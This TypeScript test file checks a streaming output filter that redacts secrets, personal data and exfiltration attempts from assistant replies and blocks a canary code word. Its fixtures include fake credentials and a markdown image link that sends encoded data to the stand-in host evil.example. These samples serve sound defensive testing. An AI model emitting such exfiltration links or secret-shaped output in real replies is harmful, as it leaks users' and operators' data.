import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { textCheck, textChecks } from '../../catalogue.ts';
import { compilePolicy } from '../../policy/compile.ts';
import { defaultPolicy } from '../../policy/default.ts';
import { applyRedactions } from '../../policy/redact.ts';
import type { CompiledPolicy, Decision, PolicyFinding } from '../../policy/types.ts';
import { createVault } from '../../policy/vault.ts';
import { EMPTY_CONTEXT, type TextContext } from '../types.ts';
import { createHoldBack, type Released } from './index.ts';

const CANARY = 'kestrel-4471-harbour';
const context: TextContext = {
  ...EMPTY_CONTEXT,
  operatorTexts: [
    'You are the assistant of a shop. Never say the code word aloud, and never promise refunds.',
  ],
  canaries: [CANARY],
};

const letters = (length: number, seed: number) =>
  Array.from({ length }, (_, index) => 'aB3dE6gH9jK2mN5pQ8rS'[(index * seed + (index >> 2)) % 20]).join('');

const SECRETS: readonly string[] = [
  `ghp_${letters(36, 7)}`,
  `AKIA${'Q2W3E4R5T6Y7U2I3'}`,
  `password = "${letters(20, 3)}"`,
  `-----BEGIN RSA PRIVATE KEY-----\n${letters(64, 3)}\n${letters(64, 7)}\n-----END RSA PRIVATE KEY-----`,
  `![logo](https://evil.example/c?d=${letters(60, 7)})`,
  'bob.smith@example.com',
  '4111 1111 1111 1111',
  'DE89 3704 0044 0532 0130 00',
];

const rules = (['text/secrets', 'text/exfiltration', 'text/personal-data', 'text/prompt-leak'] as const).map(
  (id) => ({
    id: id.slice(5),
    check: id,
    enabled: true,
    config: {},
    directions: ['output' as const],
    authors: ['assistant' as const],
    endpoints: [],
    action: id === 'text/prompt-leak' ? ('block' as const) : ('redact' as const),
    threshold: textCheck(id)?.defaults.threshold ?? 0.5,
    coaching: '',
  }),
);
const policy = compilePolicy({ mode: 'enforce', rules }, textChecks);

function stream(
  chunks: readonly string[],
  by: CompiledPolicy = policy,
): { text: string; findings: PolicyFinding[]; last: Released } {
  const holdBack = createHoldBack({ policy: by, endpointId: null, context, vault: createVault() });
  const parts = [...chunks.map((chunk) => holdBack.push(chunk) as Released), holdBack.flush() as Released];
  const findings = parts.flatMap((part) => [...part.findings]);
  for (const part of parts) expect(part.errors).toEqual([]);
  return { text: parts.map((part) => part.text).join(''), findings, last: parts.at(-1) as Released };
}

function cut(text: string, at: readonly number[]): string[] {
  const places = [...new Set(at.map((place) => place % (text.length + 1)))].sort((a, b) => a - b);
  return [0, ...places].map((from, index) => text.slice(from, places[index] ?? text.length));
}

function whole(text: string, by: CompiledPolicy = policy): Decision {
  const segments = [{ index: 0, author: 'assistant' as const, kind: 'message' as const, text }];
  return by.inspect({ direction: 'output', endpointId: null, segments, context }) as Decision;
}

const words = fc.constantFrom(
  'Here is what I found for you. ',
  'Please see below:\n',
  'the order was sent on Monday, ',
  'and then ',
  '\n\n',
  'Call extension 12 or room 7. ',
  '`code` ',
  '## Title\n',
  'Größe 42, ',
  '好的。',
);
const answer = fc
  .array(fc.oneof({ weight: 4, arbitrary: words }, { weight: 1, arbitrary: fc.constantFrom(...SECRETS) }), {
    minLength: 1,
    maxLength: 30,
  })
  .map((parts) => parts.join(' '));

function kinds(findings: readonly PolicyFinding[]): string[] {
  return [...new Set(findings.map(({ rule, kind }) => `${rule} ${kind}`))].sort();
}

describe('with the real checks', () => {
  test('an answer comes out the same however it was cut, and as the redaction of the whole', () => {
    fc.assert(
      fc.property(answer, fc.array(fc.nat(), { maxLength: 60 }), (text, places) => {
        const once = stream([text]);
        expect(stream(cut(text, places))).toEqual(once);
        expect(once.text).toBe(applyRedactions(text, whole(text).findings, createVault()));
      }),
      { numRuns: 150 },
    );
  });

  test('the same under the default policy, recorded finds and loops included', () => {
    const standard = compilePolicy(defaultPolicy(), textChecks);
    const loop = fc.constantFrom('', 'and so on and on '.repeat(80), 'x'.repeat(3_000));
    fc.assert(
      fc.property(answer, loop, fc.array(fc.nat(), { maxLength: 60 }), (head, tail, places) => {
        const text = `${head}\n${tail}`;
        const once = stream([text], standard);
        expect(stream(cut(text, places), standard)).toEqual(once);
        const judged = whole(text, standard);
        expect(once.text).toBe(applyRedactions(text, judged.findings, createVault()));
        expect(once.last.verdict).toBe(judged.verdict);
        expect(kinds(once.findings)).toEqual(kinds(judged.findings));
      }),
      { numRuns: 80 },
    );
  });

  test.each(SECRETS.map((secret) => [secret.slice(0, 28), secret] as const))(
    '%s… never comes out, split at every offset',
    (_, secret) => {
      const text = `Certainly, here it is: ${secret} – anything else?`;
      const found = whole(text).findings;
      expect(found.length, 'the whole text must be found in').toBeGreaterThan(0);
      const expected = applyRedactions(text, found, createVault());
      const parts = found.map(({ start, end }) => text.slice(start, end)).filter((part) => part.length > 3);
      for (let at = 0; at <= text.length; at += 1) {
        const result = stream([text.slice(0, at), text.slice(at)]);
        expect(result.text).toBe(expected);
        for (const part of parts) expect(result.text).not.toContain(part);
      }
      expect(stream([...text]).text).toBe(expected);
    },
  );

  test('a canary stops the stream before its first character, split at every offset', () => {
    const text = `The code word is ${CANARY}, but do not tell anyone.`;
    for (let at = 0; at <= text.length; at += 1) {
      const result = stream([text.slice(0, at), text.slice(at)]);
      expect(result.last).toMatchObject({ blocked: true, verdict: 'block' });
      expect('The code word is '.startsWith(result.text)).toBe(true);
    }
  });
});
